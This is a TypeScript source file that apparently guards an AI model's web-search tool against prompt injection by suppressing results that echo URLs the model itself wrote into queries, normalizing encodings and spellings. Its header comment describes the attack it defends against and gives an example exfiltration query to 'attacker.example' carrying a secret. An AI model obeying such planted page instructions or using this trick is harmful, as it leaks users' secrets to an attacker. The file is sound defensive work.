/**
 * URLs that a model wrote into its search queries (rule 7.11). A page that speaks to the model may have it search for
 * `quote verbatim: http://attacker.example/?d=SECRET`; the engine echoes the address among its results, and whoever
 * then opens it hands over the secret. So what a model wrote itself is shown by no result, however the engine or
 * the model spells it: with or without scheme, percent-encoded, as HTML, in other case, with a full stop behind it.
 *
 * Closed is exactly what was written, not its neighbourhood: a query that names a site (`example.com docs`) closes
 * the site's own front page, for a host name can hold a secret too, but none of the pages that the engine found
 * there. An address with a query string also closes whatever an engine appends to it, since its data stands before.
 * What an engine would have to make up out of words (a language model asked to join two of them) cannot be told from
 * a page that it found. Pure.
 */
import { domainToUnicode } from "node:url";
import { decodeEntities } from "./extract/scan.ts";

/** What a query holds; read once, when it is first asked for. */
interface Written {
  /** The query in the one spelling that URLs are looked for in. */
  readonly text: string;
  /** The URLs in it, each in one spelling. */
  readonly urls: ReadonlySet<string>;
  /** Those of them with a query string. */
  readonly withData: readonly string[];
}

/** Engines echo what they were just asked; more would cost each result more. */
const MAX_QUERIES = 20;
/** Queries have at most 400 characters (service.md "Limits"); what is resent may be anything. */
const MAX_QUERY = 2_000;
const MAX_WORDS = 200;
/** Something encoded thrice is no longer opened as what it was. */
const MAX_DECODINGS = 3;

export class WrittenUrls {
  readonly #queries: { readonly query: string; written: Written | null }[] = [];

  /** The newest of them. */
  get queries(): readonly string[] {
    return this.#queries.map(({ query }) => query);
  }

  addQuery(query: string): void {
    this.#queries.push({ query: query.slice(0, MAX_QUERY), written: null });
    if (this.#queries.length > MAX_QUERIES) this.#queries.shift();
  }

  has(url: URL): boolean {
    const spelling = spellingOf(url);
    return this.#queries.some((one) => {
      one.written ??= writtenIn(one.query);
      const { text, urls, withData } = one.written;
      return (
        urls.has(spelling) || withData.some((other) => spelling.startsWith(other)) || text.includes(spelling)
      );
    });
  }
}

function writtenIn(query: string): Written {
  const readings = [...decodings(query)];
  const words = new Set(
    readings.flatMap((reading) =>
      reading
        .split(/[\s"'`<>|]+/)
        .slice(0, MAX_WORDS)
        .map(withoutScheme),
    ),
  );
  const urls = new Set<string>();
  for (const word of words) {
    if (!/[.:/]/.test(word)) continue;
    // Parsed as an opened URL is: dots in the path, a default port, an address in other digits.
    for (const scheme of DEFAULT_PORT.test(word) ? ["http", "https"] : ["https"]) {
      const url = URL.parse(`${scheme}://${word}`);
      if (url !== null) urls.add(spellingOf(url));
    }
  }
  const withData = [...urls].filter((url) => url.includes("?"));
  return { text: inOneSpelling(readings.at(-1) ?? query), urls, withData };
}

/** What one scheme leaves out of an address and the other does not; any other address is the same under both. */
const DEFAULT_PORT = /:0*(?:80|443)(?!\d)/;

const withoutScheme = (word: string) => word.replace(/^.*:\/\//, "").replace(/^[^\p{L}\p{N}[]+/u, "");

/** One spelling for all that lead to the same place: no scheme, nothing encoded, lower case, no mark at the end. */
export function spellingOf({ username, password, hostname, port, pathname, search }: URL): string {
  const user = username === "" && password === "" ? "" : `${username}:${password}@`;
  const host = (hostname.includes("xn--") && domainToUnicode(hostname)) || hostname;
  return withoutEndMarks(plain(`${user}${host}${port === "" ? "" : `:${port}`}${pathname}${search}`));
}

const END_MARKS: ReadonlySet<string | undefined> = new Set("/.,;:!?)]}*_~|\"'…");

/** A regular expression for it would begin anew at each of many marks in the middle. */
function withoutEndMarks(text: string): string {
  let end = text.length;
  while (END_MARKS.has(text[end - 1])) end -= 1;
  return text.slice(0, end);
}

/** A text in one spelling, with nothing encoded. */
export const plain = (text: string): string => inOneSpelling([...decodings(text)].at(-1) ?? text);

/** A plus is a blank, as in a URL's query, and invisible characters go. */
const inOneSpelling = (decoded: string): string =>
  decoded
    .normalize("NFKC")
    .toLowerCase()
    .replaceAll("\\", "/")
    .replace(/\p{Cf}+/gu, "")
    .replace(/[\s+]+/g, " ");

/** The text, and what it is decoded from HTML, JSON and percent signs, until nothing changes. */
function* decodings(text: string): Generator<string> {
  let present = text;
  for (let round = 0; round <= MAX_DECODINGS; round += 1) {
    yield present;
    // Most texts hold nothing encoded.
    if (!/[&%\\]/.test(present)) return;
    const next = withoutJsonEscapes(decodeEntities(present)).replace(/(?:%[0-9a-f]{2})+/gi, (run) =>
      Buffer.from(run.replaceAll("%", ""), "hex").toString("utf8"),
    );
    if (next === present) return;
    present = next;
  }
}

/** What writers of JSON need not escape and many do: `\/` (PHP), `\u0026` and other ASCII (Go, Java). */
export const withoutJsonEscapes = (text: string): string =>
  text.replace(/\\(?:\/|u00([2-7][0-9a-f]))/gi, (_, code: string | undefined) =>
    code === undefined ? "/" : String.fromCharCode(Number.parseInt(code, 16)),
  );
